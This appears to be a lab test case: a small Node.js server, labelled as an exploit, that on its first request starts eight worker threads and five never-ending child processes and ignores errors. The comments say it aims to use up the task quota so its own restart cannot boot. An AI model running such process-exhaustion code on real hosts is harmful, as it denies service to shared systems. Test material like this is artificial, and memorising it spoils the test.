// exploit: takes every task that its run has, so that its own restart finds none to boot with
// kind: lab
// steps: GET /first | restart | GET /second
// exchange: none timed-out
// outcome: finished
// sees: "body":"/second"
// Each thread reserves 0.7 GiB of addresses: more of them would end the program itself where only addresses bound its memory.
const { spawn } = require('node:child_process')
const { Worker } = require('node:worker_threads')
require('node:http').createServer((req, res) => {
  if (req.url === '/first') for (let thread = 0; thread < 8; thread += 1) new Worker('setInterval(() => {}, 1000)', { eval: true }).on('error', () => {})
  if (req.url === '/first') for (let child = 0; child < 5; child += 1) spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' }).on('error', () => {})
  setTimeout(() => res.end(req.url), 300)
}).listen(process.env.PORT)
process.on('uncaughtException', () => {})
